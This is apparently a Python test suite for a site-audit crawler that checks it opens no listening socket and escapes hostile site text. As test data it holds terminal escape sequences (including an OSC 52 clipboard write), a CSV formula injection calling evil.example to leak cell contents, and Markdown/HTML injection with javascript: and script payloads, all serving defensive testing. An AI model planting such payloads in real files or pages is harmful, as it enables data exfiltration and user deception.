"""Safe to point at any site and to run with secrets (issue 15): what a crawl opens, sends and
writes, tried as an attacker would with servers on 127.0.0.1."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
import textwrap
import xml.etree.ElementTree as ET
from pathlib import Path

from conftest import SITES

from geoaudit.escape import CSV_FORMULA_STARTS
from geoaudit.extract import build_page
from geoaudit.facts import build_site
from geoaudit.generate.llms_txt import generate_both
from geoaudit.models import FetchRecord, Finding
from geoaudit.report import csv as csv_report
from geoaudit.report import junit as junit_report
from geoaudit.report.context import ReportContext
from geoaudit.rules import load_rules
from geoaudit.sitefiles.llms_txt import parse_llms
from geoaudit.store import Store
from geoaudit.vocab.agents import agents

LISTEN_PROBE = textwrap.dedent(
    """
    import socket, sys
    listening = []
    original = socket.socket.listen

    def listen(self, *args):
        listening.append(self.getsockname())
        return original(self, *args)

    socket.socket.listen = listen
    from geoaudit.cli import main
    code = main(sys.argv[1:])
    print("LISTENING", listening)
    sys.exit(code)
    """
)


def test_a_crawl_opens_no_listening_socket(serve, tmp_path):
    """Scrapy's telnet console and RemoteControl (an HTTP server that runs Python code) are off,
    and so is any listening extension a later Scrapy adds: the crawl listens on no port."""
    base = serve(SITES / "basic")
    proc = subprocess.run(
        [sys.executable, "-c", LISTEN_PROBE, "audit", f"{base}/", "-q", "--no-probe",
         "-o", str(tmp_path / "out")],
        cwd=tmp_path, capture_output=True, text=True, timeout=120,
        env={"HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"},
    )
    assert proc.returncode == 0, proc.stderr
    assert "LISTENING []" in proc.stdout, proc.stdout
    assert not (tmp_path / "home").exists(), "the crawl wrote to the user's profile folder"


# Site text that would drive a terminal: clear screen, window title, OSC 52 clipboard write,
# C1 CSI, a bidi override and a carriage return that rewrites the line.
HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x9b31m\u202eevil\rfake"
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")


def no_raw_control(text: str) -> bool:
    return RAW_CONTROL.search(text) is None


def test_llms_validate_shows_hostile_lines_as_escapes(geoaudit_cli, tmp_path):
    llms = tmp_path / "llms.txt"
    llms.write_text(f"# Acme{HOSTILE}\n\n> Tools{HOSTILE}\n\n<b>{HOSTILE}</b>\n\n## Docs\n\n"
                    f"- https://www.example.com/{HOSTILE}\n- [broken{HOSTILE}](\n", "utf-8")
    for fmt in ("text", "json"):
        result = geoaudit_cli("llms", "validate", str(llms), "--format", fmt)
        assert result.code in (0, 1), result.stderr
        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)
    assert "\\x1b" in geoaudit_cli("llms", "validate", str(llms)).stdout


def test_robots_shows_hostile_lines_as_escapes(geoaudit_cli, tmp_path):
    robots = tmp_path / "robots.txt"
    robots.write_text(f"User-agent: *\nContent-Signal: search=yes{HOSTILE}\nDisallow: /{HOSTILE}\n"
                      f"Sitemap: https://www.example.com/s.xml{HOSTILE}\n", "utf-8")
    for fmt in ("text", "json"):
        result = geoaudit_cli("robots", str(robots), "--format", fmt)
        assert result.code == 0, result.stderr
        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)


def test_diff_shows_hostile_findings_as_escapes(geoaudit_cli, tmp_path):
    def report(messages: list[str]) -> Path:
        path = tmp_path / f"r{len(messages)}.json"
        findings = [{"rule": "CT001", "severity": "error", "category": "content", "message": m,
                     "url": f"https://www.example.com/{HOSTILE}"} for m in messages]
        path.write_text(json.dumps({"score": 50, "categories": {}, "findings": findings}), "utf-8")
        return path

    old, new = report([]), report([f"no title {HOSTILE}"])
    for fmt in ("text", "json"):
        result = geoaudit_cli("diff", str(old), str(new), "--format", fmt)
        assert result.code == 0, result.stderr
        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)


def hostile_store(path: Path) -> Store:
    store = Store.in_dir(path, fresh=True)
    url = "https://www.example.com/"
    html = ('<title>=HYPERLINK("https://evil.example/?"&A1)</title>'
            '<script type="application/ld+json">{"@type": "@SUM(1+1)"}</script>')
    fetch = FetchRecord(url=url, requested_url=url, status=200, content_type="text/html")
    store.add_page(build_page(fetch, html.encode(), "utf-8"))
    store.add_findings([Finding("CT002", "warning", "content", f"bad {HOSTILE}\x00", url)])
    return store


def test_csv_cells_from_site_text_are_never_formulas(tmp_path):
    store = hostile_store(tmp_path)
    csv_report.write(ReportContext(store, {}, load_rules()), tmp_path / "report.csv")
    with open(tmp_path / "report.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1)"
    assert rows[0]["structured_data_types"].startswith("'@")
    for row in rows:
        assert not any(str(v).startswith(CSV_FORMULA_STARTS) for v in row.values())


def test_junit_stays_well_formed_with_control_characters(tmp_path):
    store = hostile_store(tmp_path)
    junit_report.write(ReportContext(store, {}, load_rules(), duration_s=1.0),
                       tmp_path / "report.junit.xml")
    tree = ET.parse(tmp_path / "report.junit.xml")
    messages = [f.get("message") for f in tree.iter("failure")]
    assert any("\\x1b" in m and "\\x00" in m for m in messages)


# A Markdown link whose brackets are not backslash-escaped: [text](target).
MARKDOWN_LINK = re.compile(r"(?<!\\)\[((?:[^\]\\]|\\.)*)(?<!\\)\]\(([^)]*)\)")


def test_generated_llms_txt_cannot_be_given_headings_links_or_html(tmp_path):
    """JSON-LD names, contact points, mailto hrefs, titles and descriptions reach llms.txt as
    text: no new heading, section or link, no raw HTML, no escape bytes, no javascript:."""
    origin = "https://www.example.com"
    injected = "\n## Injected\n- [Evil](javascript:alert(1))\n<b>alert(1)</b>\x1b[2J"
    org = json.dumps({"@type": "Organization", "name": f"Acme{injected}",
                      "contactPoint": {"@type": "ContactPoint", "telephone": f"+1 555{injected}",
                                       "email": f"a@example.com{injected}"}})
    pages = {
        "/": f'<title>Home</title><meta name="description" content="Tools{injected}">'
             f'<script type="application/ld+json">{org}</script>'
             f'<p>Acme makes tools for makers, founded long ago.{injected}</p>'
             '<p>Raw <script>alert(1)</script> in the text.</p>',
        "/contact": '<title>Contact</title><a href="mailto:b@example.com)\n## Mail">mail</a>',
        "/docs/a(1)": f"<title>Docs{injected}</title><p>Docs page with words enough here.</p>",
    }
    store = Store.in_dir(tmp_path, fresh=True)
    for path, html in pages.items():
        url = origin + path
        fetch = FetchRecord(url=url, requested_url=url, status=200, content_type="text/html",
                            depth=0 if path == "/" else 1)
        page = build_page(fetch, html.encode(), "utf-8")
        # An ESC byte in the text once failed the whole page in lxml ("XML compatible").
        assert page.parse_error is None and page.title, path
        store.add_page(page)
    site = build_site(start_url=f"{origin}/", site_url=origin, audit_date="2026-11-21",
                      home=store.find_page(f"{origin}/"), pages=store.iter_pages(bulk=False),
                      sitefiles=[], agents=agents())
    llms_txt, llms_full = generate_both(store, site)
    parsed = parse_llms(llms_txt)
    assert [s.title for s in parsed.sections] == ["Docs", "Contact"], llms_txt
    assert len(parsed.h1s) == 1 and [level for _, level, _ in parsed.headings] == [1, 2, 2]
    for text in (llms_txt, llms_full):
        assert not re.search(r"(?<!\\)<(script|b>)", text) and "\x1b" not in text
        targets = MARKDOWN_LINK.findall(text)
        assert all(t.split(":")[0] in ("https", "mailto", "tel") for _, t in targets), targets
    assert len(MARKDOWN_LINK.findall(llms_txt)) == 5  # docs, contact, 3 contacts
    assert f"({origin}/docs/a%281%29)" in llms_txt
